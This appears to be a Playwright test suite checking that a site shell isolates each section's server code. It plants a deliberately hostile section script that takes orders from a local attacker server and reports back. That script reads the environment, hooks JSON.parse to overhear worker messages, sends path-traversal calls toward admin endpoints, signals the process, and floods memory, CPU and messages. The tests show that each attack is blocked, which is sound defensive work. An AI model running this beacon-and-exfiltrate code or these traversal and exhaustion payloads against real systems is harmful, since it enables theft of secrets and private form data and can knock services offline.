import { setTimeout as wait } from 'node:timers/promises';
import { expect, test } from '@playwright/test';
import { createFaultyBackend } from '../support/backendProxies.ts';
import { createTestServer } from '../support/environment.ts';
import { codeOf, type FakeRemote, startFakeRemote } from '../support/fakeRemote.ts';
import { figure } from '../support/figure.ts';
import { rowsThrough } from '../support/sections.ts';
import { startShell } from '../support/startShell.ts';

// A section whose server code attacks the site it is part of. Its code fetches an order from the attacker's server when
// one of its pages is rendered, and reports what it got.

test.describe.configure({ mode: 'default' });

/** Runs in the render worker: `order` comes from the attacker's server at `url`. */
const hostile = (url: string) => `
const report = (what) => fetch('${url}', { method: 'POST', body: JSON.stringify(what) });
const { writeSync } = process.getBuiltinModule('node:fs');
const post = (line) => {
  let rest = Buffer.from(line + '\\n');
  while (rest.length > 0) try { rest = rest.subarray(writeSync(3, rest)); } catch {}
};
const send = (message) => post(JSON.stringify(message));
const replies = new Map();
const parse = JSON.parse;
JSON.parse = (...given) => {
  const message = parse(...given);
  if (message?.kind === 'request') report({ overheard: message });
  else replies.get(message?.id)?.(message);
  return message;
};
const call = (address, body) => new Promise((resolve) => {
  const id = -Math.random();
  replies.set(id, (reply) => resolve(reply.message ?? reply.answer.status));
  const write = body === undefined ? {} : { write: { headers: {}, body } };
  send({ kind: 'request', id, request: { address, ...write } });
});
const pause = () => new Promise((resolve) => setTimeout(resolve, 20));
const held = [];
const orders = {
  environment: () => process.env,
  call: ({ address, body }) => call(address, body),
  signal: () => process.kill(process.pid, 'SIGTERM'),
  nonsense: () => {
    for (const posted of [null, 1, {}, { kind: 'loaded' }, { kind: 'ended', message: '' }, { kind: 'answer', id: 1, answer: {} }, { kind: 'uncaught', message: '' }])
      send(posted);
    for (const line of ['', '{', '['.repeat(1e5) + ']'.repeat(1e5), '\\u0000']) post(line);
  },
  worker: () => 'worker ' + process.pid,
  table: () => { const table = new Map(); for (let n = 0; n < 5e7; n += 1) table.set(n, n); },
  heap: () => { for (let n = 0; n < 150; n += 1) held.push(new Array(1e6).fill(1.5)); },
  buffers: async () => { for (let n = 0; n < 24; n += 1) { held.push(Buffer.alloc(50e6, 1)); await pause(); } },
  loop: () => { for (;;); },
  large: () => { for (let n = 0; n < 30; n += 1) send({ kind: 'request', id: n, request: { address: '/'.repeat(1e6) } }); },
  flood: () => { for (;;) send({ kind: 'uncaught', message: 'x' }); },
};
const obey = async () => {
  const order = await (await fetch('${url}')).json();
  if (!order) return;
  try { await report({ result: await orders[order.name](order) ?? null }); }
  catch (error) { await report({ result: String(error) }); }
};
`;

type Order = { name: string; address?: string; body?: string };

/** The attacker's own server. */
async function startAttacker() {
  const orders: Order[] = [];
  const reports: string[] = [];
  const server = await createTestServer(async (request, response) => {
    let body = '';
    for await (const part of request) body += part;
    if (request.method === 'POST') reports.push(body);
    // Each only once: the page may be rendered again, in another worker.
    const order = request.method === 'GET' ? orders.shift() : undefined;
    response.end(JSON.stringify(order ?? null));
  });
  await server.start();
  return { ...server, reports, orders };
}

let attacker: Awaited<ReturnType<typeof startAttacker>>;
let proxy: Awaited<ReturnType<typeof createFaultyBackend>>;
let section: FakeRemote;
let shell: Awaited<ReturnType<typeof startShell>>;
const token = 'secret-token-of-this-test';
/** What the shell sent to the backend, writes without being made. */
const sent: string[] = [];

test.beforeAll(async ({ baseURL }) => {
  attacker = await startAttacker();
  proxy = await createFaultyBackend();
  proxy.refuse((path, body) => {
    sent.push(path);
    return body !== '' || !path.startsWith('/api/');
  });
  await proxy.start();
  section = await startFakeRemote('remote_hostile', 'hostil');
  section.release(
    'hostile-1',
    codeOf({
      path: 'hostil',
      text: 'sección hostil',
      atLoad: hostile(attacker.url),
      inLoader: 'await obey();',
      content: "[{ call: { path: '/event-view', search: {} } }]",
    }),
  );
  shell = await startShell({
    // Its writes are those of the contact form, which the registry grants to the other section.
    remotes: [section.row, ...rowsThrough(baseURL).filter(({ name }) => name === 'remote_contact')],
    contentUrl: proxy.url,
    env: { RENDER_WORKERS: '2', SITE_SECRET: token },
  });
  await shell.untilAllLive();
});
test.afterAll(async () => {
  await shell?.stop();
  await Promise.all([section?.stop(), proxy?.stop(), attacker?.stop()]);
});

const statusOf = async (path: string) => (await fetch(shell.origin + path)).status;

/** Has the section's page carry out an order. @returns what it reported */
async function attack(order: Order): Promise<unknown> {
  attacker.orders.push(order);
  const before = attacker.reports.length;
  await fetch(`${shell.origin}/hostil`);
  const [result] = attacker.reports.slice(before).flatMap((text) => {
    const report = JSON.parse(text);
    return 'result' in report ? [report.result] : [];
  });
  return result;
}

test('a section’s server code gets neither the environment nor another section’s forms', async () => {
  expect(await attack({ name: 'environment' })).toEqual({});

  const message = { name: 'Ana', email: 'ana@ejemplo.test', phone: '55', message: 'mi diagnóstico privado' };
  const sentAt = sent.length;
  const startedAt = performance.now();
  const response = await fetch(`${shell.origin}/contacto`, {
    method: 'POST',
    redirect: 'manual',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ website: '', 'shown-at': String(Date.now() - 60_000), ...message }),
  });
  const ms = Math.round(performance.now() - startedAt);
  // The backend was made to refuse it: the form is there again, with what was typed.
  expect(response.status).toBe(503);
  expect(await response.text()).toContain(message.message);
  expect(sent.slice(sentAt)).toContain('/api/contact-informations');
  // The worker that has the section's code is not idle meanwhile.
  await attack({ name: 'environment' });
  const overheard = attacker.reports.filter((text) => text.includes('overheard'));
  expect(overheard.length).toBeGreaterThan(0);
  expect(overheard.filter((text) => /diagn/.test(text))).toEqual([]);
  figure(`0 variables seen; 0 of ${overheard.length} messages overheard are a form; first form in ${ms} ms`);
});

test('a section’s server code makes only the calls that it declares and is granted', async () => {
  expect(await attack({ name: 'call', address: '/api/event-view' })).toBe(200);
  const body = '{"data":{}}';
  const calls: Order[] = [
    { name: 'call', address: '/api/faqs?fields[0]=question&filters[id][$gt]=0' },
    { name: 'call', address: '/api/event-view?status=draft' },
    { name: 'call', address: '/api/../admin/init' },
    { name: 'call', address: '/api/event-view/%2e%2e/%2e%2e/admin/init' },
    { name: 'call', address: '/api/..\\admin\\init' },
    { name: 'call', address: '//127.0.0.1:1/api/event-view' },
    { name: 'call', address: 'http://127.0.0.1:1/api/event-view' },
    { name: 'call', address: '/api/contact-informations', body },
    { name: 'call', address: '/api/event-view', body },
    { name: 'call', address: '/api/../admin/register-admin', body },
  ];
  const sentAt = sent.length;
  for (const order of calls)
    expect([order.address, await attack(order)]).toEqual([order.address, 'not a declared call']);
  // The pages themselves read these.
  expect(
    sent.slice(sentAt).filter((path) => !/^\/api\/(public-view|event-view)(\?populate|$)/.test(path)),
  ).toEqual([]);
  expect(shell.log()).toContain('a content call that it may not make');
  figure(`${calls.length} calls, ${calls.length} refused, 0 reached the backend`);
});

test('a section’s server code can neither signal nor confuse the shell', async () => {
  expect(await attack({ name: 'signal' })).toBe('Error: a section may not reach the process');
  await attack({ name: 'nonsense' });
  await expect.poll(shell.log).toContain('a message that is none of its own');
  expect([await statusOf('/hostil'), await statusOf('/contacto')]).toEqual([200, 200]);
  expect((await shell.readyz()).isReady).toBe(true);
  figure('no signal sent; 7 malformed or forged messages without effect');
});

/** Two pages at once are rendered in different workers, unless one has yet to load. */
async function untilBothWorkersRender() {
  await expect
    .poll(async () => {
      const before = attacker.reports.length;
      attacker.orders.push({ name: 'worker' }, { name: 'worker' });
      await Promise.all([statusOf('/hostil'), statusOf('/hostil')]);
      return new Set(attacker.reports.slice(before).filter((text) => text.includes('worker '))).size;
    })
    .toBe(2);
}

for (const [name, what] of [
  ['heap', 'fills the heap'],
  ['table', 'fills the heap at once'],
  ['buffers', 'fills memory with buffers'],
  ['loop', 'loops'],
  ['large', 'posts large messages'],
  ['flood', 'posts messages without end'],
] as const) {
  test(`a section’s server code that ${what} costs no other page`, async () => {
    await untilBothWorkersRender();
    const before = shell.ownFootprint().megabytes;
    const endings = () => (shell.log().match(/a render worker (ended|will be replaced)/g) ?? []).length;
    const endingsBefore = endings();
    let isOver = false;
    const statuses: number[] = [];
    const visits = (async () => {
      while (!isOver) {
        statuses.push(await statusOf('/contacto'));
        await wait(50);
      }
    })();
    await attack({ name });
    await expect.poll(endings).toBeGreaterThan(endingsBefore);
    expect(await statusOf('/hostil')).toBe(200);
    isOver = true;
    await visits;
    expect(new Set(statuses)).toEqual(new Set([200]));
    const most = shell.ownFootprint().mostMegabytes;
    expect(most).toBeLessThan(before + 700);
    figure(
      `its worker ended, ${statuses.length} pages beside it 200; the shell’s memory ${before} MB, at most ${most} MB`,
    );
  });
}

for (const [what, pollution] of [
  ['what all objects inherit', "Object.prototype.get = 'yes'"],
  ['what tells a browser', 'globalThis.document = {}'],
])
  test(`a section that changes ${what} costs no other one at the first start`, async ({ baseURL }) => {
    const polluting = await startFakeRemote('remote_polluting', 'sucia');
    polluting.release('polluting-1', codeOf({ path: 'sucia', text: 'sucia', atLoad: `${pollution};` }));
    const site = await startShell({ remotes: [polluting.row, ...rowsThrough(baseURL)] });
    try {
      const { remotes } = await site.readyz();
      expect(remotes.slice(1).map(({ buildId }) => buildId !== null)).toEqual([true, true, true, true]);
      expect(remotes.slice(1).filter(({ refused }) => refused)).toEqual([]);
      expect((await fetch(`${site.origin}/noticias`)).status).toBe(200);
      expect(site.log().match(/build (?!polluting-1)\w+[:,]/g) ?? []).toEqual([]);
      figure('4 of 4 other sections live, none named');
    } finally {
      await site.stop();
      await polluting.stop();
    }
  });
